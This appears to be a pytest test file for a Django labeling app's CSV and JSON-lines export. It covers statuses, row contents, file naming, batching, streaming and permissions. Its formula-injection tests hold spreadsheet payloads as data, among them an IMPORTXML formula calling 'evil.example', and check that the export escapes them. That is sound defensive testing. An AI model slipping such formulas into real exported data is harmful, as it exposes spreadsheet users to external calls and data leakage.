from __future__ import annotations

import csv
import io
import json
from uuid import uuid4

import pytest
from django.test import AsyncClient, Client

from labeling import exporting, recording
from labeling.exporting import in_a_cell, safe
from labeling.models import LabelSchema, QuestionSpec, Review
from labeling.tests.judging import answers, judge, put_aside
from traces.models import Assessment


def body_of(response) -> str:
    return b"".join(response.streaming_content).decode()


def lines_of(response) -> list[dict]:
    return [json.loads(line) for line in body_of(response).splitlines()]


def table_of(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body_of(response).removeprefix("\ufeff"))))


@pytest.fixture
def judged(session, alice, bob):
    """1: alice changed her mind. 2: bob took his back and holds it again. 3: bob declined."""
    first = judge(session, alice, correct=True, expected_response="Yes.", why="Fits § 2.")
    recording.complete(
        Review.objects.get(pk=first.pk), answers(session, {"correct": False, "expected_response": "Yes."}), active_s=45
    )
    second = judge(session, bob, correct=True)
    recording.undo(Review.objects.get(pk=second.pk))
    recording.decline(Review.objects.get(pk=second.pk), reason="unclear", note="Which policy?")
    put_aside(session, bob, reason="broken")
    return session


def test_json_lines_hold_every_assessment_with_its_status(judged, mallory, client_of):
    rows = lines_of(client_of(mallory).get(f"/labeling/sessions/{judged.pk}/export.jsonl"))

    assert [row["item"] for row in rows] == [1, 1, 1, 2, 2, 3]
    assert {(row["item"], row["question"], row["value"], row["status"]) for row in rows} == {
        (1, "correct", True, "overridden"),
        (1, "expected_response", "Yes.", "valid"),
        (1, "correct", False, "valid"),
        (2, "correct", True, "withdrawn"),
        (2, "", "unclear", "declined"),
        (3, "", "broken", "declined"),
    }


def test_a_row_says_all_there_is_to_know(judged, alice, mallory, client_of):
    rows = lines_of(client_of(mallory).get(f"/labeling/sessions/{judged.pk}/export.jsonl"))
    old = next(row for row in rows if row["status"] == "overridden")
    new = next(row for row in rows if row["question"] == "correct" and row["status"] == "valid")

    said = Assessment.objects.get(pk=old["assessment_id"])
    assert old == {
        "session": "Claims, March",
        "item": 1,
        "trace_id": said.trace_id,
        "question": "correct",
        "name": "correct",
        "title": "Is the answer correct?",
        "version": 1,
        "type": "feedback",
        "value": True,
        "rationale": "Fits § 2.",
        "evidence": [{"span_id": "s1", "field": "outputs", "start": 0, "end": 5, "quote": "cover"}],
        "source_id": "alice@example.org",
        "status": "overridden",
        "created_at": said.created_at.isoformat(),
        "overrides": None,
        "assessment_id": said.pk,
        "active_s": 30,
        "request": "Question 1",
        "response": "Answer 1",
    }
    assert new["overrides"] == old["assessment_id"]
    assert new["active_s"] == 45


def test_a_table_holds_what_stands(judged, mallory, client_of):
    rows = table_of(client_of(mallory).get(f"/labeling/sessions/{judged.pk}/export.csv"))

    assert {(row["item"], row["question"], row["value"], row["status"]) for row in rows} == {
        ("1", "expected_response", "Yes.", "valid"),
        ("1", "correct", "false", "valid"),
    }


def test_a_table_with_history_holds_everything(judged, mallory, client_of):
    rows = table_of(client_of(mallory).get(f"/labeling/sessions/{judged.pk}/export.csv?all=1"))

    assert sorted(row["status"] for row in rows) == [
        "declined", "declined", "overridden", "valid", "valid", "withdrawn",
    ]  # fmt: skip


def test_files_are_named_after_the_session(judged, mallory, client_of):
    client = client_of(mallory)
    table = client.get(f"/labeling/sessions/{judged.pk}/export.csv")
    body_of(table)
    lines = client.get(f"/labeling/sessions/{judged.pk}/export.jsonl")
    body_of(lines)

    assert table["Content-Disposition"] == 'attachment; filename="claims-march.csv"'
    assert table["Content-Type"] == "text/csv; charset=utf-8"
    assert lines["Content-Disposition"] == 'attachment; filename="claims-march.jsonl"'


def test_a_spreadsheet_reads_the_table_as_utf8(judged, mallory, client_of):
    response = client_of(mallory).get(f"/labeling/sessions/{judged.pk}/export.csv")

    assert b"".join(response.streaming_content).startswith(b"\xef\xbb\xbfsession,item,trace_id,")


@pytest.mark.parametrize(
    ("typed", "cell"),
    [
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("+1+cmd", "'+1+cmd"),
        ("-see below", "'-see below"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-3", "-3"),
        ("+4.5e3", "+4.5e3"),
        ("-3\n=1", "'-3\n=1"),
        ("a = b", "a = b"),
        ("", ""),
    ],
)
def test_a_cell_is_never_a_formula(typed, cell):
    assert safe(typed) == cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (True, "true"),
        (-3, "-3"),
        (2.5, "2.5"),
        (None, ""),
        (["Pay", "Tell them"], "Pay\nTell them"),
        ({"a": "ü"}, '{"a": "ü"}'),
    ],
)
def test_a_value_in_a_cell(value, cell):
    assert in_a_cell(value) == cell


def test_a_formula_that_was_typed_arrives_as_text(session, alice, mallory, client_of):
    judge(session, alice, correct=True, expected_response='=IMPORTXML("http://evil.example")')
    client = client_of(mallory)

    rows = table_of(client.get(f"/labeling/sessions/{session.pk}/export.csv"))
    lines = lines_of(client.get(f"/labeling/sessions/{session.pk}/export.jsonl"))

    assert {row["value"] for row in rows} == {"true", '\'=IMPORTXML("http://evil.example")'}
    assert any(line["value"] == '=IMPORTXML("http://evil.example")' for line in lines)


def test_a_question_bound_to_a_judge_says_both_names(make_session, alice, claims, mallory, client_of):
    bound = LabelSchema.objects.ask(
        experiment=claims, name="grounded", type="feedback", title="Grounded?", input={"pass_fail": {}},
        judge_name="groundedness",
    )  # fmt: skip
    session = make_session(alice, is_open=False)
    session.set_questions([QuestionSpec(bound)])
    session.open()
    judge(session, alice, grounded=True)

    (row,) = lines_of(client_of(mallory).get(f"/labeling/sessions/{session.pk}/export.jsonl"))

    assert (row["question"], row["name"]) == ("grounded", "groundedness")


def test_other_sessions_and_sources_stay_out(session, make_session, alice, mallory, client_of):
    judge(session, alice, correct=True)
    trace = session.items.first().trace
    Assessment.objects.create(
        trace=trace, kind="feedback", name="correct", value=False, source_type="LLM_JUDGE", source_id="judge"
    )
    other = make_session(alice, is_open=False, items=0)
    other.add_traces([trace])
    other.open()
    judge(other, alice, correct=False)

    rows = lines_of(client_of(mallory).get(f"/labeling/sessions/{session.pk}/export.jsonl"))

    assert [row["value"] for row in rows] == [True]


def test_items_come_in_batches_without_a_gap(
    make_session, alice, mallory, client_of, monkeypatch, django_assert_max_num_queries
):
    monkeypatch.setattr(exporting, "ITEMS_AT_ONCE", 10)
    session = make_session(alice, items=35)
    for _ in range(35):
        judge(session, alice, correct=True)
    client = client_of(mallory)

    with django_assert_max_num_queries(3 + 4 * 4 + 1):
        rows = lines_of(client.get(f"/labeling/sessions/{session.pk}/export.jsonl"))

    assert [row["item"] for row in rows] == list(range(1, 36))


def test_a_session_without_answers_is_a_table_with_a_head(session, mallory, client_of):
    body = body_of(client_of(mallory).get(f"/labeling/sessions/{session.pk}/export.csv"))

    assert body.startswith("\ufeffsession,item,")
    assert body.count("\r\n") == 1


@pytest.mark.django_db(transaction=True)
async def test_the_real_server_sends_it_piece_by_piece(session, alice, mallory):
    from asgiref.sync import sync_to_async

    await sync_to_async(judge)(session, alice, correct=True)
    client = AsyncClient()
    await client.aforce_login(mallory, backend="accounts.backends.PasswordBackend")

    response = await client.get(f"/labeling/sessions/{session.pk}/export.jsonl")

    assert response.is_async
    body = b"".join([block async for block in response.streaming_content])
    assert json.loads(body)["value"] is True


@pytest.mark.parametrize("file", ["export.csv", "export.jsonl"])
def test_developers_may_take_it_away_too(file, judged, dana, client_of):
    response = client_of(dana).get(f"/labeling/sessions/{judged.pk}/{file}")

    assert response.status_code == 200
    assert "alice@example.org" in body_of(response)


@pytest.mark.parametrize("file", ["export.csv", "export.jsonl"])
def test_experts_may_not(file, judged, alice, charlie, client_of):
    assert client_of(charlie).get(f"/labeling/sessions/{judged.pk}/{file}").status_code == 404
    assert client_of(alice).get(f"/labeling/sessions/{judged.pk}/{file}").status_code == 403


@pytest.mark.parametrize("file", ["export.csv", "export.jsonl"])
def test_a_session_that_is_not_there_is_not_found(file, dana, client_of):
    assert client_of(dana).get(f"/labeling/sessions/{uuid4()}/{file}").status_code == 404


@pytest.mark.parametrize("file", ["export.csv", "export.jsonl"])
def test_nobody_is_sent_to_sign_in(file, judged):
    assert Client().get(f"/labeling/sessions/{judged.pk}/{file}").status_code == 302


@pytest.mark.parametrize("file", ["export.csv", "export.jsonl"])
def test_it_is_only_read(file, judged, mallory, client_of):
    assert client_of(mallory).post(f"/labeling/sessions/{judged.pk}/{file}").status_code == 405


def test_a_foreign_assessment_that_claims_to_be_of_the_session_is_left_out(judged, mallory, client_of):
    trace = judged.items.first().trace
    Assessment.objects.create(
        trace=trace, kind="feedback", name="correct", value=True, source_type="HUMAN", source_id="eve@example.org",
        metadata={"reviewapp.session": str(judged.pk)},
    )  # fmt: skip
    rows = lines_of(client_of(mallory).get(f"/labeling/sessions/{judged.pk}/export.jsonl"))

    assert "eve@example.org" not in {row["source_id"] for row in rows}
